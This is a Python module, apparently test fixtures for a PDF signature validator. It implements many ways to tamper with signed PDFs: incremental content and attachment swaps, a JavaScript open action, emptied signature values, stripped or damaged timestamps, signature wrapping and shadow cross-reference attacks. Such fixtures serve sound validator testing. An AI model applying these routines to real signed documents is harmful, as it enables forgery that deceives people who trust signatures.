"""Ways to change a signed PDF, each as somebody who wants to be believed would do it."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any
from unittest import mock

from asn1crypto import cms, core
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader


def ends(data: bytes) -> list[int]:
    """Where each revision ends."""
    return [match.end() for match in re.finditer(rb"startxref\s+\d+\s+%%EOF\s?", data)]


def incremental(change: Callable[[IncrementalPdfFileWriter], None], data: bytes) -> bytes:
    """An update that keeps every byte before it."""
    with mock.patch.object(IncrementalPdfFileWriter, "_update_meta"):
        writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
        change(writer)
        out = io.BytesIO()
        writer.write(out)
    return out.getvalue()


def page(writer: IncrementalPdfFileWriter, number: int = 0) -> Any:
    return writer.root["/Pages"]["/Kids"].raw_get(number)


def replace_page(writer: IncrementalPdfFileWriter) -> None:
    target = page(writer)
    stream = generic.StreamObject(stream_data=b"BT ET")
    target.get_object()["/Contents"] = writer.add_object(stream)
    writer.mark_update(target)


def add_text(writer: IncrementalPdfFileWriter) -> None:
    target = page(writer)
    old = target.get_object().raw_get("/Contents")
    stream = generic.StreamObject(stream_data=b"0 0 100 100 re f")
    target.get_object()["/Contents"] = generic.ArrayObject([old, writer.add_object(stream)])
    writer.mark_update(target)


def add_annotation(writer: IncrementalPdfFileWriter) -> None:
    target = page(writer)
    note = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"), pdf_name("/Contents"): pdf_string("void")})
    note[pdf_name("/Rect")] = generic.ArrayObject([generic.NumberObject(n) for n in (100, 100, 200, 200)])
    annotations = target.get_object().get("/Annots")
    target.get_object()["/Annots"] = generic.ArrayObject([*(annotations or []), writer.add_object(note)])
    writer.mark_update(target)


def swap_attachment(writer: IncrementalPdfFileWriter) -> None:
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    stream = names[1]["/EF"].raw_get("/F")
    old = stream.get_object()
    new = generic.StreamObject(dict_data=generic.DictionaryObject({key: old.raw_get(key) for key in old if key not in ("/Filter", "/Length")}), stream_data=b'{"letter":"other"}')
    writer.objects[stream.generation, stream.idnum] = new


def change_info(writer: IncrementalPdfFileWriter) -> None:
    reference = writer.trailer.raw_get("/Info")
    reference.get_object()["/Title"] = pdf_string("Another letter")
    writer.mark_update(reference)


def change_xmp(writer: IncrementalPdfFileWriter) -> None:
    reference = writer.root.raw_get("/Metadata")
    old = reference.get_object()
    new = generic.StreamObject(dict_data=generic.DictionaryObject({key: old.raw_get(key) for key in ("/Type", "/Subtype")}), stream_data=old.data.replace(b"Joint", b"Other"))
    writer.objects[reference.generation, reference.idnum] = new


def widget(writer: IncrementalPdfFileWriter, name: str) -> Any:
    fields = writer.root["/AcroForm"]["/Fields"]
    return next(fields.raw_get(index) for index in range(len(fields)) if fields[index]["/T"] == name)


def move_rectangle(writer: IncrementalPdfFileWriter) -> None:
    target = widget(writer, "Officer1")
    target.get_object()["/Rect"] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 500, 800)])
    writer.mark_update(target)


def paint_appearance(writer: IncrementalPdfFileWriter) -> None:
    target = widget(writer, "Officer1")
    form = generic.StreamObject(
        dict_data=generic.DictionaryObject({pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form")}), stream_data=b"0 0 99 9 re f"
    )
    form[pdf_name("/BBox")] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 215, 48)])
    target.get_object()["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(form)})
    writer.mark_update(target)


def open_action(writer: IncrementalPdfFileWriter) -> None:
    action = generic.DictionaryObject({pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("app.alert(1)")})
    writer.root["/OpenAction"] = writer.add_object(action)
    writer.update_root()


def empty_value(writer: IncrementalPdfFileWriter) -> None:
    """Universal forgery: the value is there and says nothing."""
    value = widget(writer, "Officer2").get_object().raw_get("/V")
    value.get_object()["/Contents"] = generic.ByteStringObject(b"")
    writer.mark_update(value)


def no_byte_range(writer: IncrementalPdfFileWriter) -> None:
    value = widget(writer, "Officer2").get_object().raw_get("/V")
    del value.get_object()["/ByteRange"]
    writer.mark_update(value)


def poison(kind: str, payload: bytes) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        store = writer.root.raw_get("/DSS")
        entry = writer.add_object(generic.StreamObject(stream_data=payload))
        store.get_object()[kind] = generic.ArrayObject([*store.get_object()[kind], entry])
        writer.mark_update(store)

    return change


def signature(data: bytes, field: str) -> tuple[int, int, bytes]:
    """Where a signature value stands between its brackets, and the value."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    found = next(entry for entry in (e.get_object() for e in reader.root["/AcroForm"]["/Fields"]) if entry["/T"] == field)
    _, before, after, _ = (int(number) for number in found["/V"]["/ByteRange"])
    return before + 1, after - 1, bytes.fromhex(data[before + 1 : after - 1].decode())


def rewrite(data: bytes, field: str, change: Callable[[Any], None]) -> bytes:
    """Change a signature value in its place, as anybody can who has the file: it does not cover itself."""
    begin, end, value = signature(data, field)
    info = cms.ContentInfo.load(value)
    change(info["content"])
    new = bytes(info.dump(force=True))
    room = (end - begin) // 2
    assert len(new) <= room
    return data[:begin] + new.ljust(room, b"\0").hex().encode("ascii") + data[end:]


def strip_stamp(content: Any) -> None:
    content["signer_infos"][0]["unsigned_attrs"] = cms.CMSAttributes([])


def junk_attribute(content: Any) -> None:
    signer = content["signer_infos"][0]
    signer["unsigned_attrs"] = cms.CMSAttributes([*(signer["unsigned_attrs"] or ()), {"type": "1.2.3.4.5", "values": [core.OctetString(b"junk")]}])


def damage_stamp(content: Any) -> None:
    token = content["signer_infos"][0]["unsigned_attrs"][0]["values"][0]
    signer = token["content"]["signer_infos"][0]
    value = bytearray(signer["signature"].native)
    value[10] ^= 1
    signer["signature"] = bytes(value)


def extra_certificate(certificate: Any) -> Callable[[Any], None]:
    def change(content: Any) -> None:
        content["certificates"] = cms.CertificateSet([*content["certificates"], cms.CertificateChoices({"certificate": certificate})])

    return change


def padding(data: bytes, field: str) -> bytes:
    _, end, value = signature(data, field)
    assert value[-8:] == bytes(8)
    return data[: end - 8] + b"41424344" + data[end:]


def flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def wrap(data: bytes, field: str) -> bytes:
    """Signature wrapping: other content where the signature looks away, the signed bytes behind it."""
    begin, end, _ = signature(data, field)
    body = b"9999 0 obj<</Type/Catalog>>endobj"
    return data[: end - 2 * len(body)] + body.hex().encode() + data[end:] if end - begin > 2 * len(body) else data


def shadow(data: bytes) -> bytes:
    """Hide and replace: a cross-reference section at the end that points the catalogue to an object of the attacker's."""
    start = len(data)
    catalogue = PdfFileReader(io.BytesIO(data), strict=False).trailer.raw_get("/Root").idnum
    body = f"{catalogue} 0 obj\n<</Type/Catalog/Pages 1 0 R>>\nendobj\n".encode()
    table = f"xref\n{catalogue} 1\n{start:010} 00000 n \ntrailer\n<</Size 9999/Root {catalogue} 0 R/Prev {previous(data)}>>\nstartxref\n{start + len(body)}\n%%EOF\n".encode()
    return data + body + table


def previous(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", data)[-1])


def swap_stamp_certificate(content: Any) -> None:
    """One more certificate in the time stamp of a signature: the signer's own, which is not of the stamp's path."""
    token = content["signer_infos"][0]["unsigned_attrs"][0]["values"][0]["content"]
    extra_certificate(content["certificates"][0].chosen)(token)
